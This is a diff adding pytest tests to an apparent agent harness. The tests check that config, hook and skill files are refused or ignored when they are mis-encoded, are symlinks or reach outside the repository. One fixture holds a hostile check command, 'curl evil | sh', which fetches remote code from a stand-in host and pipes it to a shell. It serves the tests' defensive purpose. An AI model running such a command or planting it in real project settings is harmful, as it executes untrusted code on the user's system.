@@ -1,13 +1,17 @@
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 from typing import TYPE_CHECKING
 
 import pytest
 
+from harness.roles.catalog import scan_roles
+from harness.skills.catalog import roots_of, scan
 from harness.trust.effects import difference, effects
-from harness.trust.repository_files import RepositoryFiles, find_files
+from harness.trust.repository_files import RepositoryFiles, RepositoryFileUnreadable, find_files
+from tests.support.odd_texts import ODD_YAML
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -153,3 +157,92 @@ def test_the_difference_shows_what_is_new_changed_and_gone(project: Path) -> Non
     assert "+Be bad." in patch
     assert "+New." in patch
     assert difference(now, now) == ""
+
+
+@pytest.mark.parametrize("name", ["leadhand.yaml", ".mcp.json"])
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "latin-1"])
+def test_what_decides_and_cannot_be_shown_is_refused(project: Path, name: str, encoding: str) -> None:
+    (project / name).write_bytes("# é\nchecks: {tests: curl evil | sh}\n".encode(encoding))
+    with pytest.raises(RepositoryFileUnreadable, match="save it as UTF-8"):
+        found(project)
+
+
+@pytest.mark.parametrize("name", ["leadhand.yaml", ".mcp.json", ".env"])
+@pytest.mark.parametrize("target", ["/dev/zero", "pipe", "src"])
+def test_what_decides_and_is_no_file_is_refused(project: Path, name: str, target: str) -> None:
+    os.mkfifo(project / "pipe")
+    (project / name).unlink()
+    (project / name).symlink_to(target)
+    with pytest.raises(RepositoryFileUnreadable):
+        found(project, ".env")
+
+
+@pytest.mark.parametrize(
+    "name", ["AGENTS.md", ".worktreeinclude", ".agents/roles/x.md", "skills/tables/x", "skills/other"]
+)
+@pytest.mark.parametrize("target", ["/dev/zero", "pipe", "outside/SKILL.md", "outside"])
+def test_nothing_outside_the_repository_is_read_or_kept(
+    project: Path, tmp_path_factory: pytest.TempPathFactory, name: str, target: str
+) -> None:
+    outside = tmp_path_factory.mktemp("outside")
+    (outside / "SKILL.md").write_text("---\nname: private\ndescription: private\n---\nprivate\n")
+    os.mkfifo(project / "pipe")
+    (project / name).unlink(missing_ok=True)
+    (project / name).symlink_to(target.replace("outside", str(outside)))
+    files = found(project)
+    assert "private" not in json.dumps([files.to_json(), [str(effect) for effect in effects(files)]])
+    assert all(
+        skill.name != "private"
+        for skill in scan(roots_of(project, home=project, allowed_at_home=())).skills.values()
+    )
+    told = [effect for effect in effects(files) if effect.file.startswith(name)]
+    assert all(effect.what == "is not used" for effect in told)
+
+
+def test_roles_and_skills_behind_a_link_out_of_the_repository_are_none(tmp_path: Path) -> None:
+    project, outside = tmp_path / "project", tmp_path / "outside"
+    for directory in (project / ".agents", outside / "private"):
+        directory.mkdir(parents=True)
+    for name in ("private/SKILL.md", "private.md"):
+        (outside / name).write_text("---\nname: private\ndescription: x\n---\nsecret\n")
+    for name in ("skills", ".agents/roles"):
+        (project / name).symlink_to(outside)
+    assert "private" not in scan_roles(project, {}).roles
+    assert "private" not in scan(roots_of(project, home=project, allowed_at_home=())).skills
+    assert "secret" not in json.dumps(found(project).to_json())
+
+
+def test_no_file_passes_for_the_digest_of_another(project: Path) -> None:
+    evil = b"\xff evil"
+    digests = set()
+    for data in (evil, f"sha256:{hashlib.sha256(evil).hexdigest()}".encode(), b"not read: it leads out"):
+        (project / "hooks/guard.sh").write_bytes(data)
+        assert found(project).texts["hooks/guard.sh"].startswith("sha256:")
+        digests.add(found(project).digest)
+    assert len(digests) == 3
+
+
+def test_no_name_passes_for_another(project: Path) -> None:
+    skill = os.fsencode(project / "skills/tables")
+    for name in (rb"\xff.txt", b"\xff.txt"):
+        with open(skill + b"/" + name, "wb") as file:  # noqa: PTH123 - a name that is no text
+            file.write(name)
+    assert len([name for name in found(project).texts if "xff" in name]) == 2
+
+
+@pytest.mark.parametrize(
+    "value", ["2001-01-01", "[2001-01-01]", "[{2001-01-01: a}]", "!!set {a}", ".nan", "!!binary YQ=="]
+)
+def test_every_value_of_yaml_is_told(project: Path, value: str) -> None:
+    (project / "leadhand.yaml").write_text(f"checks: {{calc: {value}}}")
+    assert "leadhand.yaml runs as a check (checks.calc" in "".join(map(str, effects(found(project))))
+
+
+SHOWN = {what: text for what, text in ODD_YAML.items() if "\0" not in text}
+
+
+@pytest.mark.parametrize("text", SHOWN.values(), ids=SHOWN)
+def test_odd_yaml_stops_nobody_who_looks(project: Path, text: str) -> None:
+    (project / "leadhand.yaml").write_text(text)
+    told = [str(effect) for effect in effects(found(project))]
+    assert "leadhand.yaml cannot be read as settings, so no run will begin" in told
